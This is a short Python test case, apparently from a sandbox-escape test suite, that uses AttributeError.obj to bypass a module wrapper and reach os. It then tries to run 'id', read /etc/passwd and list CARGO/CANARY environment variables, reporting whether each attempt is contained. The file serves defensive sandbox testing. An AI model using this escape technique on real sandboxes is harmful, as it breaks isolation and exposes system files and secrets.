# /// case
# technique = "frames-and-generators"
# analysis = ["forbidden-attribute"]
# without_analysis = "contained"
# reference = "CVE-2024-47532"
# ///
# `AttributeError.obj` is the object itself, whatever wrapper the lookup went through.
import statistics

def stripped():
    try:
        statistics.no_such_name
    except AttributeError as error:
        return error.obj

module = stripped()
found = module.sys.modules["os"]

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
